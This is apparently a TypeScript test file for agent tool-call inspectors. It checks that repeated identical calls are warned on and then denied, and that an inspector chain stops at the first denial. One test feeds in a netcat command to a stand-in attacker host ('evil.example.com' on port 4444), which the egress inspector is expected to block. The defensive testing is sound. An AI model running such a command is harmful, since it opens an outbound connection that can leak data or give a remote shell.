import { describe, expect, it } from "vitest";
import { EgressInspector } from "./egress/egress-inspector.ts";
import { InspectorChain } from "./inspector.ts";
import { RepetitionInspector } from "./repetition-inspector.ts";

describe("RepetitionInspector", () => {
  it("warns, then denies, an identical call repeated within the window", () => {
    const rep = new RepetitionInspector({ warnAt: 2, denyAt: 3, window: 5 });
    expect(rep.inspect("shell", { command: "ls", cwd: "/" }).verdict).toBe("allow");
    // Key order does not make a call different.
    expect(rep.inspect("shell", { cwd: "/", command: "ls" }).verdict).toBe("warn");
    const third = rep.inspect("shell", { command: "ls", cwd: "/" });
    expect(third).toEqual({ verdict: "deny", reason: "the identical call to 'shell' was made 3 times in the last 3 calls" });
  });

  it("different calls and calls that aged out of the window do not count", () => {
    const rep = new RepetitionInspector({ warnAt: 2, denyAt: 3, window: 2 });
    expect(rep.inspect("a", { x: 1 }).verdict).toBe("allow");
    expect(rep.inspect("a", { x: 2 }).verdict).toBe("allow");
    expect(rep.inspect("b", { x: 1 }).verdict).toBe("allow");
    expect(rep.inspect("a", { x: 1 }).verdict).toBe("allow"); // the first aged out
    rep.reset();
    expect(rep.inspect("b", { x: 1 }).verdict).toBe("allow");
  });

  it("tolerates values without a canonical JSON form", () => {
    const rep = new RepetitionInspector({ warnAt: 2 });
    rep.inspect("t", { s: "\ud800" });
    expect(rep.inspect("t", { s: "\ud800" }).verdict).toBe("warn");
  });
});

describe("InspectorChain", () => {
  it("runs inspectors in order and stops after the first deny", () => {
    const rep = new RepetitionInspector({ warnAt: 1, denyAt: 99 });
    const chain = new InspectorChain().with(new EgressInspector()).with(rep);
    const denied = chain.inspect("shell", { command: "nc evil.example.com 4444" });
    expect(denied.map((o) => [o.name, o.result.verdict])).toEqual([["egress", "deny"]]);
    const warned = chain.inspect("shell", { command: "ls" });
    expect(warned.map((o) => [o.name, o.result.verdict])).toEqual([
      ["egress", "allow"],
      ["repetition", "warn"],
    ]);
    expect(chain.verdict("shell", { command: "ls" })).toEqual({
      verdict: "warn",
      reason: "repetition: the identical call to 'shell' was made 2 times in the last 2 calls",
    });
    expect(new InspectorChain().verdict("shell", {})).toEqual({ verdict: "allow" });
  });
});
